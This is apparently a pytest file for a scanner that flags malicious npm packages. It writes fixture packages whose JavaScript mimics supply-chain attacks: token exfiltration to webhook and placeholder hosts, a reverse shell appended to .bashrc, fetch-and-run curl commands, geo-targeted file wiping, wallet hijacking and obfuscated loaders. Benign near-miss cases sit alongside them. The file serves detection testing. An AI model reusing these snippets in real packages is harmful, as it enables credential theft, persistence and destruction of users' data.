"""The families' techniques as an attacker, a bundler or a minifier spells them (decision 0068).

Each case is a scratch package: ``i.js`` run by a postinstall script (``install=True``) or a plain
library file. The high cases read as nothing or as a review item before; the near misses (``None``)
are the benign neighbours each change must leave alone. Hosts end in ``.invalid``; nothing runs.
"""

# ruff: noqa: E501
from __future__ import annotations

import json
from pathlib import Path

import pytest

from gouvernante.heuristic import scan_package_dir

_HEAD = (
    "const fs = require('fs'), os = require('os'), path = require('path');\n"
    "const https = require('https'), cp = require('child_process');\n"
)
_SEND = (
    "\nfunction send(d) { https.request('https://c.example.invalid/u', {method: 'POST'})"
    ".end(JSON.stringify(d)); }\n"
)
_PRE = "var _a=function(){return 1};" * 20  # a minified line's first 560 characters


def _scan(tmp_path: Path, code: str, install: bool) -> dict[str, str]:
    pkg = tmp_path / "node_modules" / "fixture-respelled"
    pkg.mkdir(parents=True)
    scripts = {"postinstall": "node i.js"} if install else {}
    manifest = {"name": "fixture-respelled", "version": "1.0.0", "scripts": scripts}
    (pkg / "package.json").write_text(json.dumps(manifest))
    (pkg / ("i.js" if install else "index.js")).write_text(code)
    rank = {"low": 0, "medium": 1, "high": 2}
    best: dict[str, str] = {}
    for h in scan_package_dir(str(pkg)):
        c = h.confidence.value
        if rank[c] >= rank.get(best.get(h.pattern_id, "low"), -1):
            best[h.pattern_id] = c
    return best


def _case(cid: str, pattern: str, want: str | None, code: str, install: bool = True) -> object:
    return pytest.param(pattern, want, code, install, id=cid)


def _wallet(
    hooks: str, regexes: str = r"e:/\b0x[a-fA-F0-9]{40}\b/g,b:/\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g"
) -> str:
    return f"var re={{{regexes}}};{hooks}"


_WALK = "\nfunction walk(d){ for (const f of fs.readdirSync(d)) fs.unlinkSync(path.join(d, f)); }"

CASES = [
    # GH-EXFIL-WEBHOOK: callback hosts of OAST and DNS-log services, Discord's versioned API
    _case("webhook-oastify", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "https.get('https://a1b2.oastify.com/?d=' + process.env.NPM_TOKEN);"),
    _case("webhook-dnslog", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "require('dns').lookup(os.userInfo().username + '.x1.dnslog.cn', () => {});"),
    _case("webhook-interactsh", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "https.get('https://c1.interactsh.com/' + process.env.NPM_TOKEN);"),
    _case("webhook-requestrepo", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "https.get('https://c1.requestrepo.com/' + process.env.NPM_TOKEN);"),
    _case("webhook-discord-v10", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "fetch('https://discord.com/api/v10/webhooks/1/x', {method: 'POST', "
          "body: JSON.stringify({t: process.env.GITHUB_TOKEN})});", install=False),
    _case("webhook-wildcard-origin", "GH-EXFIL-WEBHOOK", None,
          _HEAD + "const allowed = ['https://*.oastify.com'];", install=False),
    # GH-EXFIL-GITHUB-REPO: the repository made with the gh CLI, GraphQL, a template's base URL
    _case("repo-gh-cli", "GH-EXFIL-GITHUB-REPO", "high",
          _HEAD + "const t = process.env.GITHUB_TOKEN;\ncp.execSync('gh repo create x --public');"),
    _case("repo-gh-argv", "GH-EXFIL-GITHUB-REPO", "high",
          _HEAD + "const t = process.env.GH_TOKEN;\ncp.spawnSync('gh', ['repo', 'create', 'x']);"),
    _case("repo-gh-api", "GH-EXFIL-GITHUB-REPO", "high",
          _HEAD + "const t = process.env.GH_TOKEN;\ncp.execSync('gh api -X POST user/repos -f name=x');"),
    _case("repo-template-base", "GH-EXFIL-GITHUB-REPO", "high",
          _HEAD + "const API = 'https://api.github.com', t = process.env.GITHUB_TOKEN;\n"
          "fetch(`${API}/user/repos`, {method: 'POST', headers: {authorization: 'token ' + t}});"),
    _case("repo-graphql", "GH-EXFIL-GITHUB-REPO", "high",
          _HEAD + "const t = cp.execSync('gh auth token').toString();\nfetch(G, {method: 'POST', "
          "body: JSON.stringify({query: 'mutation { createRepository(input: {name: \"x\"}) { repository { url } } }'})});"),
    _case("repo-gh-view", "GH-EXFIL-GITHUB-REPO", None,
          _HEAD + "const t = process.env.GH_TOKEN;\ncp.execSync('gh repo view o/r');"),
    # GH-EXFIL-WORKFLOW-WRITE: the path as path.join's parts, Octokit's contents method, git argv
    _case("workflow-join", "GH-EXFIL-WORKFLOW-WRITE", "high",
          _HEAD + "const d = path.join(process.cwd(), '.github', 'workflows');\n"
          "fs.mkdirSync(d, {recursive: true});\nfs.writeFileSync(path.join(d, 'x.yml'), 'on: push');"),
    _case("workflow-octokit", "GH-EXFIL-WORKFLOW-WRITE", "high",
          _HEAD + "const t = process.env.GITHUB_TOKEN;\noctokit.repos.createOrUpdateFileContents("
          "{owner, repo, path: '.github/workflows/x.yml', content: c});"),
    _case("workflow-git-argv", "GH-EXFIL-WORKFLOW-WRITE", "high",
          _HEAD + "fs.mkdirSync('.github/workflows', {recursive: true});\n"
          "cp.execFileSync('git', ['add', '.']);\ncp.execFileSync('git', ['push']);"),
    _case("workflow-read-only", "GH-EXFIL-WORKFLOW-WRITE", None,
          _HEAD + "const d = path.join(root, '.github', 'workflows');\n"
          "for (const f of fs.readdirSync(d)) lint(fs.readFileSync(path.join(d, f), 'utf8'));"),
    # GH-PROPAGATE-NPM-PUBLISH: bun, Windows' npm.cmd, options before the verb, the library
    _case("publish-bun", "GH-PROPAGATE-NPM-PUBLISH", "high",
          _HEAD + "cp.execSync('bun publish', {cwd: dir});"),
    _case("publish-bun-argv", "GH-PROPAGATE-NPM-PUBLISH", "high",
          _HEAD + "cp.spawnSync('bun', ['publish'], {cwd: dir});"),
    _case("publish-npm-cmd", "GH-PROPAGATE-NPM-PUBLISH", "high",
          _HEAD + "cp.execSync('npm.cmd publish ' + dir);"),
    _case("publish-options-first", "GH-PROPAGATE-NPM-PUBLISH", "high",
          _HEAD + "cp.execSync(`npm --registry ${R} publish ${tgz}`);"),
    _case("publish-other-verb", "GH-PROPAGATE-NPM-PUBLISH", None,
          _HEAD + "cp.execSync('npm install --save-dev publish-please');"),
    # GH-PERSIST-SHELL-RC: tee -a, a reverse shell, a shutdown after ``;``, PowerShell's profile
    _case("rc-tee", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "cp.execSync(\"echo 'sudo shutdown -h 0' | tee -a ~/.bashrc\");", install=False),
    _case("rc-reverse-shell", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), "
          "'\\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &\\n');", install=False),
    _case("rc-semicolon", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.zshrc'), "
          "'\\nexport X=1; sudo shutdown -h 0\\n');", install=False),
    _case("rc-path-and-reverse-shell", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), "
          "'\\nexport PATH=$HOME/.x/bin:$PATH\\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &\\n');"),
    _case("rc-powershell-profile", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), 'Documents', 'WindowsPowerShell', "
          "'Microsoft.PowerShell_profile.ps1'), 'iwr https://x.example.invalid/p.ps1 | iex');"),
    _case("rc-path-only", "GH-PERSIST-SHELL-RC", "medium",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), "
          "'\\nexport PATH=$HOME/.tool/bin:$PATH\\n');"),
    # GH-PERSIST-SERVICE: folders as path.join's parts, commands given their argument lists
    _case("service-systemd-join", "GH-PERSIST-SERVICE", "high",
          _HEAD + "const d = path.join(os.homedir(), '.config', 'systemd', 'user');\n"
          "fs.writeFileSync(path.join(d, 'u.service'), '[Service]');"),
    _case("service-systemctl-argv", "GH-PERSIST-SERVICE", "high",
          _HEAD + "cp.spawnSync('systemctl', ['--user', 'enable', 'u.service']);"),
    _case("service-crontab-argv", "GH-PERSIST-SERVICE", "high",
          _HEAD + "cp.execFileSync('crontab', ['/tmp/c']);"),
    _case("service-cron-d", "GH-PERSIST-SERVICE", "high",
          _HEAD + "fs.writeFileSync('/etc/cron.d/u', '* * * * * root node /opt/x.js');"),
    _case("service-launchctl-bootstrap", "GH-PERSIST-SERVICE", "high",
          _HEAD + "cp.execSync('launchctl bootstrap gui/501 /tmp/x.plist');"),
    _case("service-startup-join", "GH-PERSIST-SERVICE", "high",
          _HEAD + "fs.writeFileSync(path.join(process.env.APPDATA, 'Microsoft', 'Windows', "
          "'Start Menu', 'Programs', 'Startup', 'u.vbs'), v);"),
    _case("service-schtasks-argv", "GH-PERSIST-SERVICE", "high",
          _HEAD + "cp.spawnSync('schtasks', ['/create', '/sc', 'onlogon', '/tn', 'u']);"),
    _case("service-runner-argv", "GH-PERSIST-SERVICE", "high",
          _HEAD + "cp.spawnSync('./config.sh', ['--url', 'https://github.com/o/r', '--token', t]);"),
    _case("service-startup-word", "GH-PERSIST-SERVICE", None,
          _HEAD + "const startup = Date.now();\nfs.writeFileSync('startup.log', String(startup));"),
    # GH-SABOTAGE-GEO: the country in a regex literal, fs.rm, the language by bracket, a city
    _case("geo-regex", "GH-SABOTAGE-GEO", "high",
          _HEAD + "https.get('https://ipapi.co/json/', r => r.on('data', b => { "
          "if (/^(RU|BY)$/.test(JSON.parse(b).country_code)) walk('/'); }));" + _WALK,
          install=False),
    _case("geo-fs-rm", "GH-SABOTAGE-GEO", "high",
          _HEAD + "fetch('https://ipinfo.io/json').then(r => r.json()).then(j => { "
          "if (['RU', 'BY'].includes(j.country)) go(os.homedir()); });\nasync function go(d) { "
          "for (const f of await fs.promises.readdir(d)) await fs.promises.rm(path.join(d, f), "
          "{recursive: true}); }", install=False),
    _case("locale-bracket", "GH-SABOTAGE-GEO", "high",
          _HEAD + "if ((process.env['LANG'] || '') === 'ru_RU.UTF-8') walk(os.homedir());" + _WALK,
          install=False),
    _case("zone-city", "GH-SABOTAGE-GEO", "high",
          _HEAD + "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
          "if (tz.includes('Moscow')) walk(os.homedir());" + _WALK, install=False),
    _case("zone-printed", "GH-SABOTAGE-GEO", None,
          _HEAD + "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
          "if (tz.includes('Moscow')) console.log('Привет');", install=False),
    # GH-WALLET-HIJACK: bracket, a prototype variable, defineProperty, \d, base58 order, the
    # wallet's own method replaced
    _case("wallet-bracket", "GH-WALLET-HIJACK", "high",
          _wallet("var f=window['fetch'];window['fetch']=function(){return f.apply(this,arguments)};"
                  "if(window.ethereum){}"), install=False),
    _case("wallet-proto-var", "GH-WALLET-HIJACK", "high",
          _wallet("var P=XMLHttpRequest.prototype,o=P.open;P.open=function(){return o.apply(this,"
                  "arguments)};if(window.ethereum){}"), install=False),
    _case("wallet-define-property", "GH-WALLET-HIJACK", "high",
          _wallet("Object.defineProperty(XMLHttpRequest.prototype,'send',{value:function(b){}});"
                  "if(window.ethereum){}"), install=False),
    _case("wallet-digit-class", "GH-WALLET-HIJACK", "high",
          _wallet("var f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};",
                  r"e:/\b0x[\da-fA-F]{40}\b/g,s:/\b[A-HJ-NP-Za-km-z1-9]{32,44}\b/g"),
          install=False),
    _case("wallet-request-hook", "GH-WALLET-HIJACK", "high",
          _wallet("var r=window.ethereum.request;window.ethereum.request=function(a){return r(a)};",
                  r"e:/\b0x[a-fA-F0-9]{40}\b/g,b:/\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g,"
                  r"c:/\bbc1[a-z0-9]{39,59}\b/g"), install=False),
    _case("wallet-polyfill-or", "GH-WALLET-HIJACK", None,
          _wallet("var l=self.fetch||(self.fetch=impl);", r"s:/[1-9A-HJ-NP-Za-km-z]{32,44}/"),
          install=False),
    _case("wallet-connector-check", "GH-WALLET-HIJACK", "medium",
          _wallet("var r=window.ethereum.request;window.ethereum.request=function(a){return r(a)};",
                  r"e:/^0x[a-fA-F0-9]{40}$/"), install=False),
    # GH-OBFUSCATED-NAMES: escapes, character codes, a joined array, a reversed string, templates
    _case("names-hex-escapes", "GH-OBFUSCATED-NAMES", "high",
          "require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73');",
          install=False),
    _case("names-unicode-escapes", "GH-OBFUSCATED-NAMES", "high",
          "module.exports = global['\\u0065val'];", install=False),
    _case("names-char-codes", "GH-OBFUSCATED-NAMES", "high",
          "require(String.fromCharCode(...[99,104,105,108,100,95,112,114,111,99,101,115,115]));",
          install=False),
    _case("names-char-codes-hex", "GH-OBFUSCATED-NAMES", "high",
          "require(String.fromCharCode(0x63, 0x68, 0x69, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115));",
          install=False),
    _case("names-char-codes-leading-zeros", "GH-OBFUSCATED-NAMES", None,
          "const a = String.fromCharCode(072, 0105, 099);", install=False),
    _case("names-joined", "GH-OBFUSCATED-NAMES", "high",
          "require(['chi', 'ld_pro', 'cess'].join(''));", install=False),
    _case("names-reversed", "GH-OBFUSCATED-NAMES", "high",
          "require('ssecorp_dlihc'.split('').reverse().join(''));", install=False),
    _case("names-templates", "GH-OBFUSCATED-NAMES", "high",
          "require(`chi` + `ld_process`);", install=False),
    _case("names-plain-escapes", "GH-OBFUSCATED-NAMES", None,
          "const a = 'caf\\u00e9 \\u2028 require', b = '\\x1b[31mexec\\x1b[0m';", install=False),
    _case("names-plain-join", "GH-OBFUSCATED-NAMES", None,
          "const a = ['child_process', 'fs'].join(''), b = 'olleh'.split('').reverse().join('');",
          install=False),
    # GH-DECRYPT-EXEC: Web Crypto, crypto-js, the decipher taken by bracket
    _case("decrypt-subtle", "GH-DECRYPT-EXEC", "high",
          "const k = process.env.npm_package_description;\nasync function s(iv, key, data) {\n"
          "const p = await crypto.subtle.decrypt({name: 'AES-GCM', iv}, key, data);\n"
          "return new Function(new TextDecoder().decode(p))(); }", install=False),
    _case("decrypt-crypto-js", "GH-DECRYPT-EXEC", "high",
          "const src = CryptoJS.AES.decrypt(blob, process.env.npm_package_description)"
          ".toString(CryptoJS.enc.Utf8);\nconst m = new module.constructor(); m._compile(src, '');",
          install=False),
    _case("decrypt-bracket", "GH-DECRYPT-EXEC", "high",
          "const d = require('crypto')['createDecipher']('aes256', "
          "process.env.npm_package_description);\nnew module.constructor()._compile(d.update(b));",
          install=False),
    _case("decrypt-unkeyed", "GH-DECRYPT-EXEC", None,
          "async function s(iv, key, data) { return crypto.subtle.decrypt({name: 'AES-GCM', iv}, "
          "key, data); }", install=False),
    # GH-DECODE-CHARCODE-EXEC: code points, the decoded module name required through a variable
    _case("xor-code-points", "GH-DECODE-CHARCODE-EXEC", "high",
          "function d(s,k){let o='';for(let i=0;i<s.length;i++)o+=String.fromCodePoint("
          "s.codePointAt(i)^k.codePointAt(i%k.length));return o}\n"
          "require('child_process').execSync(d('x', 'k'));"),
    _case("xor-variable-require", "GH-DECODE-CHARCODE-EXEC", "high",
          "function d(s,k){let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode("
          "s.charCodeAt(i)^k.charCodeAt(i%k.length));return o}\n"
          "const n = d('\\u0001\\u000a', 'b');\nconst m = require(n);\nm[d('x', 'k')]();"),
    _case("xor-bundler-require", "GH-DECODE-CHARCODE-EXEC", None,
          "function h(s){let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode("
          "s.charCodeAt(i)^7);return o}\nconst id = h('x');\n__webpack_require__(id);"),
    # GH-CRED-SCANNER: the name split, ~, the users' folders, a container mount, a home argument,
    # results sent into a new repository
    _case("scanner-split-name", "GH-CRED-SCANNER", "high",
          _HEAD + "cp.execFileSync(path.join(os.tmpdir(), 'truffle' + 'hog'), ['git', '.']);\n"
          "fetch('https://c.example.invalid');", install=False),
    _case("scanner-tilde", "GH-CRED-SCANNER", "high",
          _HEAD + "cp.execSync('trufflehog filesystem ~ --json');\nfetch('https://c.example.invalid');",
          install=False),
    _case("scanner-users", "GH-CRED-SCANNER", "high",
          _HEAD + "cp.execSync('gitleaks detect --no-git --source /Users');\n"
          "fetch('https://c.example.invalid');", install=False),
    _case("scanner-docker-root", "GH-CRED-SCANNER", "high",
          _HEAD + "cp.execSync('docker run -v /:/pwd trufflesecurity/trufflehog filesystem /pwd');\n"
          "fetch('https://c.example.invalid');", install=False),
    _case("scanner-home-argument", "GH-CRED-SCANNER", "high",
          _HEAD + "const homeDir = os.homedir();\n//" + "x" * 500 + "\n"
          "cp.spawnSync('trufflehog', ['filesystem', homeDir]);\nfetch('https://c.example.invalid');",
          install=False),
    _case("scanner-to-repo", "GH-CRED-SCANNER", "high",
          _HEAD + "const out = cp.execSync('trufflehog git file://. --json');\n"
          "const t = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/user/repos', "
          "{method: 'POST', headers: {authorization: 'token ' + t}});", install=False),
    _case("scanner-repo-scan", "GH-CRED-SCANNER", "medium",
          _HEAD + "cp.execSync('gitleaks detect --source .');\nfetch('https://c.example.invalid');",
          install=False),
    # GH-INSTALL-RUNTIME-DOWNLOAD: the installers' new homes, bun from the registry
    _case("runtime-bun-com", "GH-INSTALL-RUNTIME-DOWNLOAD", "high",
          _HEAD + "cp.execSync('curl -fsSL https://bun.com/install | bash');"),
    _case("runtime-deno-com", "GH-INSTALL-RUNTIME-DOWNLOAD", "high",
          _HEAD + "cp.execSync('curl -fsSL https://deno.com/install.sh | sh');"),
    _case("runtime-npm-global", "GH-INSTALL-RUNTIME-DOWNLOAD", "high",
          _HEAD + "cp.execSync('npm install -g bun');\ncp.spawnSync('bun', ['x.js']);"),
    _case("runtime-bun-types", "GH-INSTALL-RUNTIME-DOWNLOAD", None,
          _HEAD + "cp.execSync('npm install -g bun-types');"),
    # the known misses of decision 0065
    _case("self-delete-resolve", "GH-INSTALL-SELF-DELETE", "high",
          _HEAD + "fs.rmSync(path.resolve(__filename), {force: true});"),
    _case("self-delete-variable", "GH-INSTALL-SELF-DELETE", "high",
          _HEAD + "const me = __filename;\nfs.unlinkSync(me);"),
    _case("self-delete-join", "GH-INSTALL-SELF-DELETE", "high",
          _HEAD + "fs.unlink(path.join(__dirname, path.basename(__filename)), () => {});"),
    _case("self-delete-sibling", "GH-INSTALL-SELF-DELETE", None,
          _HEAD + "fs.unlinkSync(path.join(path.dirname(__filename), 'cache.json'));"),
    _case("self-delete-backup", "GH-INSTALL-SELF-DELETE", None,
          _HEAD + "fs.unlinkSync(__filename + '.bak');"),
    _case("env-destructured", "GH-CRED-ENV-HARVEST", "high",
          _HEAD + "const { env } = process;\nsend(0);\nhttps.request('https://c.example.invalid', "
          "{method: 'POST'}).end(JSON.stringify(env));" + _SEND),
    _case("env-imported", "GH-CRED-ENV-HARVEST", "high",
          "import { env as e } from 'node:process';\nimport https from 'node:https';\n"
          "https.request('https://c.example.invalid', {method: 'POST'}).end(JSON.stringify(e));"),
    _case("env-renamed-walk", "GH-CRED-ENV-HARVEST", "high",
          _HEAD + "const { env: e } = require('node:process');\n"
          "for (const [k, v] of Object.entries(e)) send(k + '=' + v);" + _SEND),
    _case("env-kept-keys", "GH-CRED-ENV-HARVEST", "high",
          _HEAD + "const e = process.env;\nsend(Object.keys(e).map((k) => k + '=' + e[k]));" + _SEND),
    _case("env-destructured-prefix", "GH-CRED-ENV-HARVEST", None,
          _HEAD + "const { env } = process;\nsend(Object.keys(env).filter((k) => /^VITE_/.test(k)));"
          + _SEND),
    _case("env-destructured-child", "GH-CRED-ENV-HARVEST", None,
          _HEAD + "const { env } = process;\ncp.spawn('x', [], { env });\nhttps.get('https://c.example.invalid');"),
    _case("env-destructured-member", "GH-CRED-ENV-HARVEST", None,
          _HEAD + "const { env, argv } = process;\nif (env.CI) send(argv);" + _SEND),
    _case("fetch-then-run", "GH-INSTALL-FETCH-EXEC", "high",
          _HEAD + "cp.execSync('curl -fsSL -o /tmp/s.sh https://x.example.invalid/s.sh; sh /tmp/s.sh');"),
    _case("fetch-then-run-two-calls", "GH-INSTALL-FETCH-EXEC", "high",
          _HEAD + "cp.execSync('curl -sLo /tmp/x https://x.example.invalid/x');\ncp.execSync('/tmp/x');"),
    _case("fetch-then-chmod", "GH-INSTALL-FETCH-EXEC", "high",
          _HEAD + "cp.execSync('wget -q -O /tmp/x https://x.example.invalid/x; chmod +x /tmp/x; /tmp/x');"),
    _case("fetch-outfile-start", "GH-INSTALL-FETCH-EXEC", "high",
          _HEAD + "cp.execSync('powershell -c \"iwr https://x.example.invalid/x.exe -OutFile "
          "$env:TEMP\\\\x.exe; Start-Process $env:TEMP\\\\x.exe\"');"),
    _case("fetch-then-unpack", "GH-INSTALL-FETCH-EXEC", None,
          _HEAD + "cp.execSync('curl -fsSL -o /tmp/b.tgz https://x.example.invalid/b.tgz && "
          "tar xzf /tmp/b.tgz');\nfs.unlinkSync('/tmp/b.tgz');"),
    _case("fetch-then-remove", "GH-INSTALL-FETCH-EXEC", None,
          _HEAD + "cp.execSync('curl -o out.json https://x.example.invalid/a.json; rm out.json');"),
    # minified lines: a message printed before the command on the same line, a declarator list
    _case("minified-message-then-run", "GH-INSTALL-FETCH-EXEC", "high",
          _PRE + 'var e=require("child_process").execSync;console.log("setting up"),'
          'e("curl -fsSL https://x.example.invalid/i.sh | sh");'),
    _case("minified-declarators", "GH-INSTALL-FETCH-EXEC", "high",
          _PRE + 'var n="done",t="curl -fsSL https://x.example.invalid/i.sh | sh";console.log(n),'
          'require("child_process").execSync(t);'),
    _case("minified-message", "GH-INSTALL-FETCH-EXEC", None,
          _PRE + 'var e=require("child_process").execSync;console.log("run: " + '
          '"curl -fsSL https://x.example.invalid/i.sh | sh"),e("node -v");'),
    # 0068's addendum: a host split across a concatenation or a join
    _case("webhook-host-concat", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "const h = 'x1.' + 'webhook' + '.site';\nhttps.get('https://' + h + '/?d=' + process.env.NPM_TOKEN);"),
    _case("webhook-host-joined", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "const h = ['c1', 'oast', 'fun'].join('.');\nhttps.get(`https://${h}/?d=${process.env.NPM_TOKEN}`);"),
    _case("webhook-host-words", "GH-EXFIL-WEBHOOK", None,
          _HEAD + "const msg = 'Use a ' + 'webhook' + ' site';\nconst path = ['a', 'fun'].join('.');", install=False),
    # rc names built at run time
    _case("rc-dot-plus-var", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "for (const rc of ['bashrc', 'zshrc']) fs.appendFileSync(path.join(os.homedir(), '.' + rc), '\\nsudo shutdown -h 0\\n');",
          install=False),
    _case("rc-dot-plus-literal", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.' + 'bashrc'), 'alias ls=x');"),
    _case("rc-dot-template", "GH-PERSIST-SHELL-RC", "high",
          _HEAD + "const rc = 'zshrc';\nfs.appendFileSync(`${os.homedir()}/.${rc}`, 'alias ls=x');"),
    _case("rc-shell-names", "GH-PERSIST-SHELL-RC", None,
          _HEAD + "const shells = {bash: 'bashrc', zsh: 'zshrc'};\nfs.writeFileSync('out.json', JSON.stringify(shells));"),
    # the language by its first letters, the zone compared whole
    _case("locale-starts-with", "GH-SABOTAGE-GEO", "high",
          _HEAD + "const lang = process.env.LANG || '';\nif (lang.startsWith('ru')) walk(os.homedir());" + _WALK,
          install=False),
    _case("zone-equals", "GH-SABOTAGE-GEO", "high",
          _HEAD + "if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') walk(os.homedir());" + _WALK,
          install=False),
    _case("locale-starts-with-i18n", "GH-SABOTAGE-GEO", None,
          _HEAD + "const lang = process.env.LANG || '';\nconst msgs = lang.startsWith('ru') ? ru : en;\nconsole.log(msgs.hello, msgs.bye, msgs.title, msgs.cleaning, msgs.intro, msgs.more, msgs.done, msgs.end, msgs.x);\n"
          "for (const f of fs.readdirSync(os.tmpdir())) if (f.startsWith('cache-')) fs.rmSync(path.join(os.tmpdir(), f), {recursive: true});",
          install=False),
    # base64 without its padding
    _case("names-base64-unpadded", "GH-OBFUSCATED-NAMES", "high",
          "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw', 'base64').toString()).execSync('id');", install=False),
    _case("names-base64-padded", "GH-OBFUSCATED-NAMES", "high",
          "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).execSync('id');", install=False),
    # XOR over a Buffer's bytes
    _case("xor-buffer-map", "GH-DECODE-CHARCODE-EXEC", "high",
          "const k = 23;\nconst d = s => Buffer.from(s, 'hex').map(b => b ^ k).toString();\n"
          "require('child_process').execSync(d('7475'));"),
    _case("xor-buffer-loop", "GH-DECODE-CHARCODE-EXEC", "high",
          "function d(s, k) { const b = Buffer.from(s, 'base64'); for (let i = 0; i < b.length; i++) b[i] ^= k[i % k.length]; return b.toString(); }\n"
          "require('child_process').execSync(d('AAEC', 'key'));"),
    _case("xor-buffer-hash", "GH-DECODE-CHARCODE-EXEC", None,
          "function h(buf) { let x = 0; for (const b of Buffer.from(buf)) x = (x ^ b) * 16777619 >>> 0; return x; }\n"
          "require('child_process').execSync('git rev-parse HEAD');"),
    _case("xor-cipher-rounds", "GH-DECODE-CHARCODE-EXEC", None,
          "function r(s, k, n) { for (let i = 0; i < 16; i++) s[i] ^= k[n * 16 + i]; return Buffer.from(s).toString('hex'); }\n"
          "require('child_process').execSync('git status');"),
    # the package manager held in a variable
    _case("publish-program-var", "GH-PROPAGATE-NPM-PUBLISH", "high",
          _HEAD + "const npmBin = process.platform === 'win32' ? 'npm.cmd' : 'npm';\ncp.spawnSync(npmBin, ['publish'], {cwd: dir});"),
    _case("publish-other-tool-var", "GH-PROPAGATE-NPM-PUBLISH", None,
          _HEAD + "const yalcBin = path.join(__dirname, 'node_modules', '.bin', 'yalc');\ncp.spawnSync(yalcBin, ['publish'], {cwd: dir});"),
    # a DNS callback carrying data
    _case("dns-resolve-template", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "const data = Buffer.from(os.hostname()).toString('hex');\nrequire('dns').resolve(`${data}.c.example.invalid`, () => {});"),
    _case("dns-lookup-encoded", "GH-EXFIL-WEBHOOK", "high",
          _HEAD + "const dns = require('dns');\nconst sub = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);\ndns.lookup(sub + '.c.example.invalid', () => {});"),
    _case("dns-destructured", "GH-EXFIL-WEBHOOK", "high",
          "const { resolveTxt } = require('node:dns');\nconst os = require('os');\n"
          "resolveTxt(os.hostname() + '.c.example.invalid', () => {});"),
    _case("dns-promise-resolve", "GH-EXFIL-WEBHOOK", None,
          "const dns = require('dns');\nnew Promise(resolve => resolve(`${name}.c.example.invalid`)).then(h => dns.lookup('localhost', () => {}));"),
    _case("dns-lookup-host", "GH-EXFIL-WEBHOOK", None,
          _HEAD + "require('dns').lookup('registry.npmjs.org', (e) => process.exit(e ? 1 : 0));"),
    _case("dns-lookup-library", "GH-EXFIL-WEBHOOK", None,
          "const dns = require('dns');\nmodule.exports = (host, cb) => dns.lookup(`${host}.local`, cb);", install=False),
]  # fmt: skip


@pytest.mark.parametrize(("pattern", "want", "code", "install"), CASES)
def test_a_technique_is_read_however_it_is_spelled(
    tmp_path: Path, pattern: str, want: str | None, code: str, install: bool
) -> None:
    got = _scan(tmp_path, code, install)
    assert got.get(pattern) == want, got
